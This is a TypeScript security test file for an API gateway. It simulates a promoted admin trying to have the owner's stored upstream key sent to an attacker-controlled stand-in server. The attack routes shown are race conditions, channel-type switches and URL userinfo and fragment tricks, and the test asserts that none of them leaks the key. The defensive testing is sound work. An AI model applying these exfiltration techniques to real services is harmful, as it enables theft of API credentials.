import type { ChannelView } from '@turnpike/contract';
import { expect } from 'vitest';
import { FakeUpstream, sendJson } from '../../server/test/support/fake-upstream.ts';
import type { Visitor } from '../support/site.ts';
import { attack, EFFORT } from './attack-site.ts';

const ROUNDS = 10 * EFFORT;
const ROOT_KEY = 'sk-the-owner-of-the-site-0123456789';
const THIEF_KEY = 'sk-the-thief-has-a-key-too';
const [CUSTOM, DEMO] = [8, 1000];
const preload = new URL('./public-address.ts', import.meta.url);

const hello = { model: 'prey', messages: [{ role: 'user', content: 'Say hello' }] };

attack(
  'changes and tests the channel of root, to have its key sent to a server of their own',
  async (site) => {
    const server = await FakeUpstream.start();
    try {
      const evil = server.url.replace('127.0.0.1', '11.0.0.1');
      const { person: admin, tokenKey } = await site.account('mallory');
      await site.root.call('POST', '/api/user/manage', { username: 'mallory', action: 'promote' });
      await site.root.createPrice('prey', 1, 3);
      const script = await admin.script();
      const makePrey = (key = ROOT_KEY) =>
        site.root.createChannel({
          ...{ base_url: site.upstream.url, models: 'prey', name: 'prey', key, key_mode: 'one_channel' },
        } as never);
      const expectNothingStolen = () =>
        expect(server.received.filter((request) => JSON.stringify(request).includes(ROOT_KEY))).toEqual([]);
      const use = async (prey: ChannelView) => {
        await admin.ask('POST', `/api/channel/test/${prey.id}`);
        await site.chat(tokenKey, hello);
      };

      // A server of the attacker is reached, with the attacker's own key.
      await admin.call('POST', '/api/channel/test', {
        ...{ type: CUSTOM, base_url: evil, models: 'prey', key: THIEF_KEY },
      });
      expect(server.received.map(({ headers }) => headers.authorization)).toEqual([`Bearer ${THIEF_KEY}`]);

      for (let round = 0; round < ROUNDS; round += 1) {
        const prey = await makePrey(round % 2 === 0 ? ROOT_KEY : `${ROOT_KEY}\n${ROOT_KEY}-2`);
        await raceChanges(admin, prey, evil);
        await use(prey);
        expectNothingStolen();
        await site.root.call('DELETE', `/api/channel/${prey.id}`);
      }
      for (const thief of [admin, script]) {
        const prey = await makePrey();
        await askOneByOne(thief, prey, evil);
        await use(prey);
        expectNothingStolen();
        await site.root.call('DELETE', `/api/channel/${prey.id}`);
      }
      await useWhileRootMoves({ prey: await makePrey(), root: site.root, evil, use });

      expectNothingStolen();
      expect(server.received.length).toBeGreaterThan(2);

      const prey = await makePrey();
      site.upstream.does((response, { headers }) =>
        sendJson(response, 400, JSON.stringify({ error: { message: `not ${headers.authorization}` } })),
      );
      const tested = await admin.ask('POST', `/api/channel/test/${prey.id}`);
      const called = await (await site.chat(tokenKey, hello)).text();
      const log = await admin.ask('GET', '/api/log/?size=50');
      expect(site.upstream.received.at(-1)?.headers.authorization).toContain(ROOT_KEY);
      expect(JSON.stringify([tested, called, log])).not.toContain(ROOT_KEY);
    } finally {
      await server.stop();
    }
  },
  { env: { NODE_OPTIONS: `--import=${preload}` }, timeoutMs: 120_000 * EFFORT },
);

/** One change takes a type that needs no key to the server, the other goes back to the type that sends it. */
async function raceChanges(admin: Visitor, { id }: ChannelView, evil: string): Promise<void> {
  const change = (input: object) => admin.ask('PUT', '/api/channel/', { id, ...input });
  const away = { base_url: evil, allow_private_network: false };
  await Promise.all([
    change({ type: CUSTOM, name: 'mine' }),
    change({ type: DEMO, ...away }),
    change({ name: 'mine', ...away }),
    change({ type: CUSTOM, allow_private_network: false }),
    change({ type: DEMO, ...away }),
    admin.ask('POST', '/api/channel/test', { id, type: CUSTOM }),
    admin.ask('POST', '/api/channel/batch', { ids: [id], action: 'enable' }),
    change({ type: CUSTOM, name: 'mine' }),
  ]);
}

/** Every way to name another server next to the stored key, one after the other. */
async function askOneByOne(thief: Visitor, { id, base_url }: ChannelView, evil: string): Promise<void> {
  const change = (input: object) => thief.ask('PUT', '/api/channel/', { id, ...input });
  const draft = (input: object) => thief.ask('POST', '/api/channel/test', { id, ...input });
  const away = { base_url: evil, allow_private_network: false };
  const keyNeeded = { status: 400, body: { fields: [{ field: 'key', code: 'channel.key_required' }] } };

  expect(await change(away)).toMatchObject(keyNeeded);
  expect(await change({ ...away, key: '' })).toMatchObject(keyNeeded);
  expect(await draft({ type: CUSTOM, ...away })).toMatchObject(keyNeeded);
  expect(await draft({ type: CUSTOM, ...away, key: ' ' })).toMatchObject(keyNeeded);
  const before = `${base_url}@${evil.replace('http://', '')}`;
  for (const input of [{ base_url: before }, { base_url: `${evil}#${base_url}` }]) {
    const answer = await draft({ type: CUSTOM, ...input, allow_private_network: false });
    expect(answer.body.fields[0]).toMatchObject({ field: 'base_url' });
  }
  const changed = await change({ type: DEMO, ...away });
  expect(changed).toMatchObject({ status: 200, body: { data: { key_hint: '' } } });
  expect(await change({ type: CUSTOM })).toMatchObject(keyNeeded);
  expect(await draft({ type: CUSTOM })).toMatchObject(keyNeeded);
}

/** Root gives the channel to the other server, with another key, and back, while calls and tests run. */
async function useWhileRootMoves(given: {
  prey: ChannelView;
  root: Visitor;
  evil: string;
  use: (prey: ChannelView) => Promise<void>;
}): Promise<void> {
  const { prey, root, evil, use } = given;
  for (let round = 0; round < ROUNDS; round += 1) {
    const there = { base_url: evil, key: THIEF_KEY };
    const here = { base_url: prey.base_url, key: ROOT_KEY };
    const move = root.call('PUT', '/api/channel/', { id: prey.id, ...(round % 2 === 0 ? there : here) });
    await Promise.all([use(prey), move, use(prey)]);
  }
  await root.call('DELETE', `/api/channel/${prey.id}`);
}
